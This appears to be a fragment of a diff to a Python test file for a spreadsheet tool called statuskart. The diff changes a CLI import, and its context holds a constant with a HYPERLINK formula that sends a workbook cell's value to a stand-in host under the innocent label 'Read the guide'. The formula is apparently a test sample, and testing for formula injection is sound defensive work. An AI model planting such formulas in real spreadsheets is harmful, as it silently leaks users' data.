@@ -13,7 +13,7 @@ import zipfile
 from openpyxl import load_workbook
 
 from statuskart.catalog.load import load_catalog
-from statuskart.cli import main
+from statuskart.cli.commands import main
 from statuskart.workbook import layout as L
 
 LINK = '=HYPERLINK("https://x.example/?u="&Forside!B7,"Les veiledningen")'
